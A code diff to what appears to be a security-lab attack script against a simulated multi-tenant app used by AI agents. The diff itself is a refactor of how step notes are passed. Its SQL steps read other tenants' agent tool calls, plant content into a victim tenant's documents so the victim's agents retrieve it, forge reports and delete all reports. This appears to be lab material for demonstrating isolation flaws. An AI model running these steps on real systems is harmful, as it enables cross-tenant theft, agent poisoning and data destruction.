@@ -12,11 +12,6 @@ const table = (name: string): (typeof plan.tables)[number] => {
   return found;
 };
 
-const note = (attempt: Attempt, text: string): Attempt => {
-  attempt.step.note = text;
-  return attempt;
-};
-
 /** Rows of the victim that came back, or that were changed, made or deleted. */
 const reached = (attempt: Attempt, victim: Tenant): number =>
   attempt.rows.rows.filter((row) => row.owner === victim.index).length +
@@ -37,27 +32,29 @@ export default defineAttack(async (lab: Lab): Promise<string> => {
     summary: `${victim.name}: all accounts closed`,
   };
 
-  const looked = note(
-    await lab.attempt(me, 'SELECT id, tenant_id, title FROM documents'),
+  const looked = await lab.attempt(
+    me,
+    'SELECT id, tenant_id, title FROM documents',
     'list_documents(): its own, and nothing else. This is where a test usually stops.',
   );
-  const read = note(
-    await lab.attempt(me, 'SELECT tenant_id, tool, arguments FROM tool_calls'),
+  const read = await lab.attempt(
+    me,
+    'SELECT tenant_id, tool, arguments FROM tool_calls',
     'recent_activity(): what agents searched for.',
   );
-  const moved = note(
-    await lab.attempt(
-      me,
-      `UPDATE documents SET body = ${quoteLiteral(PLANT)}, tenant_id = ${quoteLiteral(victim.id)}`,
-    ),
+  const moved = await lab.attempt(
+    me,
+    `UPDATE documents SET body = ${quoteLiteral(PLANT)}, tenant_id = ${quoteLiteral(victim.id)}`,
     `edit_documents() with a tenant_id in the patch: ${victim.name}’s next search would find these.`,
   );
-  const written = note(
-    await lab.attempt(me, insertSql(reports, forged)),
+  const written = await lab.attempt(
+    me,
+    insertSql(reports, forged),
     `write_report() with ${victim.name}’s tenant_id.`,
   );
-  const wiped = note(
-    await lab.attempt(me, 'DELETE FROM reports'),
+  const wiped = await lab.attempt(
+    me,
+    'DELETE FROM reports',
     'clear_reports(), exactly as the application sends it.',
   );
 
